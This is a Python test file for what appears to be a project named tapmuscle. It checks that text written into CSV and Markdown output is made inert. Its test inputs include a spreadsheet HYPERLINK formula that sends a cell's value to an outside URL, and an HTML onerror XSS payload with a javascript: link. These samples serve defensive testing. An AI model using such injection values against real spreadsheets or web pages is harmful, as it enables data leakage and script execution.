"""Text from others' files made inert in the CSV and Markdown documents tapmuscle writes."""

from __future__ import annotations

import csv
import io

import pytest

from tapmuscle.io.inert_text import inert_cell, inert_csv_text, markdown_text


@pytest.mark.parametrize("text, cell", [
    ("=HYPERLINK(\"http://x/?\"&A1)", "'=HYPERLINK(\"http://x/?\"&A1)"), ("+1+2", "'+1+2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("-cmd", "'-cmd"), ("  =1", "  '=1"), ("\t=1", "'\t=1"),
    # numbers and plain text as they are
    ("-1.5", "-1.5"), ("-.5", "-.5"), ("0.083", "0.083"), ("-inf", "-inf"), ("+1e3", "+1e3"),
    ("ampc_servo_44N_0.1Hz", "ampc_servo_44N_0.1Hz"), ("", ""),
])
def test_a_cell_a_spreadsheet_would_evaluate_is_made_text(text, cell):
    assert inert_cell(text) == cell
    assert inert_cell(cell) == cell  # made inert once is inert


def test_each_cell_of_a_header_line_a_spreadsheet_splits_is_made_inert():
    line = inert_csv_text('Rig A,=HYPERLINK("x"), -3,amp=3')
    assert line == 'Rig A,\'=HYPERLINK("x"), -3,amp=3'
    assert not any(cell.lstrip().startswith(("=", "+", "@")) for cell in next(csv.reader(io.StringIO(line))))


def test_markdown_from_elsewhere_is_literal_text():
    text = markdown_text("x <img src=x onerror=alert(1)> [a](javascript:b) | `c` *d*\nnext & more")
    assert "<" not in text and ">" not in text and "\n" not in text
    assert text == ("x &lt;img src=x onerror=alert(1)&gt; \\[a\\](javascript:b) \\| \\`c\\` *d* next &amp; more")
